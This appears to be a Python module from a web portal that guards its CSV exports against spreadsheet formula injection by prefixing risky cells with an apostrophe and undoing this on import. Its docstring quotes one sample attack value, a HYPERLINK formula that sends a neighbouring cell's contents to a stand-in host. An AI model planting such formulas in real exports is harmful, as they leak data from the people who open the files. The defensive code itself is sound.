"""Spreadsheet cells that stay text: a value such as `=HYPERLINK("http://evil.example/?x="&B2)`
typed into a title or a name must not run as a formula when an official opens an export (CSV
injection, OWASP). Every export of the portal (the API's CSV, admin's exports) writes its cells
through `safe_cell`; admin's import reads them back through `unescape_cell`."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """A text that a spreadsheet would read as a formula, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape_cell(value):
    """What `safe_cell` wrote, as it was typed (an import of an export round-trips)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
